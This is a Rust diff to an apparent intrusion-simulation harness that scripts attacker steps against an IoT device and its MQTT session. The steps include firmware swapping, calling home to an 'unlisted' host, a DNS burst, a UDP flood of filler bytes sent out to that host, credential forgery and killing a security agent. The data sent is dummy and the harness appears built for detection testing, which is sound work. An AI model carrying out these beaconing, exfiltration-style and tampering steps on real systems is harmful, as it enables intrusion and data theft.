@@ -107,6 +107,7 @@ pub struct Way {
 
 const PATIENCE: Duration = Duration::from_secs(5);
 const FORGERIES: usize = 6;
+const DATAGRAM_BYTES: usize = 1400;
 /// Between publishes while the session is held.
 const BEAT: Duration = Duration::from_millis(250);
 const FIRMWARE: &[u8] = b"firmware 3.1.0, with something added\n";
@@ -124,11 +125,11 @@ pub fn run(plan: &Plan, out: &mut dyn Write) -> Result<(), SetupError> {
     intruder.open_port()?;
     intruder.swap_firmware()?;
     intruder.contact()?;
-    intruder.burst_dns()?;
-    intruder.send_volume()?;
     intruder.reach_for_foreign()?;
     intruder.downgrade()?;
     intruder.forge()?;
+    intruder.burst_dns()?;
+    intruder.send_volume()?;
     if !plan.agent_first {
         intruder.kill_agent()?;
         intruder.replay()?;
@@ -206,7 +207,7 @@ impl<'a> Intruder<'a> {
 
     fn contact(&mut self) -> Result<(), SetupError> {
         let at = now();
-        let outcome = said(&self.send(64), "answered");
+        let outcome = said(&self.call_home(), "answered");
         let deed = format!("calls home at {}", self.plan.unlisted);
         self.tell(at, &deed, &outcome)
     }
@@ -232,10 +233,22 @@ impl<'a> Intruder<'a> {
         self.tell(at, &deed, &outcome)
     }
 
+    /// By datagrams: they leave whether or not anything lets them through further on.
     fn send_volume(&mut self) -> Result<(), SetupError> {
         let at = now();
-        let sent = self.send(self.plan.volume_bytes);
-        let outcome = said(&sent, "gone");
+        let datagram = [b'x'; DATAGRAM_BYTES];
+        let count = self.plan.volume_bytes / DATAGRAM_BYTES as u64;
+        let send = || -> io::Result<()> {
+            let socket = UdpSocket::bind((self.own_address(self.plan.unlisted), 0))?;
+            for number in 0..count {
+                socket.send_to(&datagram, self.plan.unlisted)?;
+                if number % 64 == 63 {
+                    std::thread::sleep(Duration::from_millis(1));
+                }
+            }
+            Ok(())
+        };
+        let outcome = said(&send(), "gone");
         let deed = format!("sends {} MB out", self.plan.volume_bytes / 1_000_000);
         self.tell(at, &deed, &outcome)
     }
@@ -251,6 +264,11 @@ impl<'a> Intruder<'a> {
             Ok(session) => session.subscribe_one(&topic, Qos::AtLeastOnce).map(drop),
             Err(refusal) => Err(refusal.clone()),
         };
+        if let Err(refusal) = heard.as_ref().map_err(Clone::clone)
+            && refusal.ends_session()
+        {
+            self.close(refusal);
+        }
         self.tell(at, &format!("listens to {topic}"), &outcome_of(&heard, "ACCEPTED"))
     }
 
@@ -309,28 +327,45 @@ impl<'a> Intruder<'a> {
         self.tell(at, &deed, &outcome)
     }
 
-    /// Publishes in the device's own channel until the session is gone.
+    /// Keeps the session until it is gone.
     fn hold(&mut self) -> Result<(), SetupError> {
         let until = Instant::now() + Duration::from_secs(self.plan.hold_seconds);
-        let topic = self.plan.own_topic.clone();
-        while Instant::now() < until {
-            match self.publish(&topic, b"{}") {
-                Ok(()) => self.end.last_accepted = Some(now()),
-                Err(refusal) => {
-                    if self.end.first_denied.is_none() {
-                        self.end.first_denied = Some(now());
-                        let outcome = refusal.to_string();
-                        self.tell(now(), "speaks in the device's own channel", &outcome)?;
-                    }
-                    if refusal.ends_session() {
-                        self.end.closed = Some(now());
-                        return self.tell(now(), "holds its session", &refusal.to_string());
-                    }
-                }
-            }
-            std::thread::sleep(BEAT);
+        while self.session.is_ok() && Instant::now() < until {
+            self.pass(BEAT)?;
         }
-        self.tell(now(), "holds its session", "STILL OPEN")
+        let outcome = match &self.session {
+            Ok(_) => "STILL OPEN".to_owned(),
+            Err(refusal) => refusal.to_string(),
+        };
+        self.tell(now(), "holds on to its session", &outcome)
+    }
+
+    /// Lets time pass with an ear on the session, and speaks once in the device's own channel.
+    fn pass(&mut self, time: Duration) -> Result<(), SetupError> {
+        let until = Instant::now() + time;
+        let topic = self.plan.own_topic.clone();
+        match self.publish(&topic, b"{}") {
+            Ok(()) => self.end.last_accepted = Some(now()),
+            Err(refusal) if !refusal.ends_session() && self.end.first_denied.is_none() => {
+                self.end.first_denied = Some(now());
+                self.account(now(), "speaks in the device's own channel", &refusal.to_string())?;
+            }
+            Err(_) => {}
+        }
+        while let Ok(session) = &mut self.session {
+            match session.next(until) {
+                Ok(Some(_)) => {}
+                Ok(None) => return Ok(()),
+                Err(refusal) => self.close(refusal),
+            }
+        }
+        std::thread::sleep(until.saturating_duration_since(Instant::now()));
+        Ok(())
+    }
+
+    fn close(&mut self, refusal: Refusal) {
+        self.end.closed = self.end.closed.or(Some(now()));
+        self.session = Err(refusal);
     }
 
     /// Every way in, once more.
@@ -374,10 +409,14 @@ impl<'a> Intruder<'a> {
     }
 
     fn publish(&mut self, topic: &str, payload: &[u8]) -> Result<(), Refusal> {
-        match &mut self.session {
-            Ok(session) => session.publish(topic, payload),
-            Err(refusal) => Err(refusal.clone()),
+        let session = self.session.as_mut().map_err(|refusal| refusal.clone())?;
+        let outcome = session.publish(topic, payload);
+        if let Err(refusal) = &outcome
+            && refusal.ends_session()
+        {
+            self.close(refusal.clone());
         }
+        outcome
     }
 
     fn connect(&self, shown: &Presented, versions: Versions) -> Result<(), Refusal> {
@@ -400,11 +439,10 @@ impl<'a> Intruder<'a> {
         Client::new(endpoint, Some(shown), &options)
     }
 
-    /// Sends so many bytes to the unlisted place.
-    fn send(&self, bytes: u64) -> io::Result<()> {
+    fn call_home(&self) -> io::Result<()> {
         let mut connection = TcpStream::connect_timeout(&self.plan.unlisted, PATIENCE)?;
         connection.set_write_timeout(Some(PATIENCE))?;
-        io::copy(&mut io::Read::take(io::repeat(b'x'), bytes), &mut connection).map(drop)
+        connection.write_all(b"here I am")
     }
 
     fn own_address(&self, towards: SocketAddr) -> IpAddr {
@@ -416,13 +454,16 @@ impl<'a> Intruder<'a> {
     }
 
     fn tell(&mut self, at: u64, deed: &str, outcome: &str) -> Result<(), SetupError> {
+        self.account(at, deed, outcome)?;
+        self.pass(Duration::from_millis(self.plan.pause_ms))
+    }
+
+    fn account(&mut self, at: u64, deed: &str, outcome: &str) -> Result<(), SetupError> {
         self.write(&Line::Deed {
             at,
             deed: deed.to_owned(),
             outcome: outcome.to_owned(),
-        })?;
-        std::thread::sleep(Duration::from_millis(self.plan.pause_ms));
-        Ok(())
+        })
     }
 
     fn write(&mut self, line: &Line) -> Result<(), SetupError> {
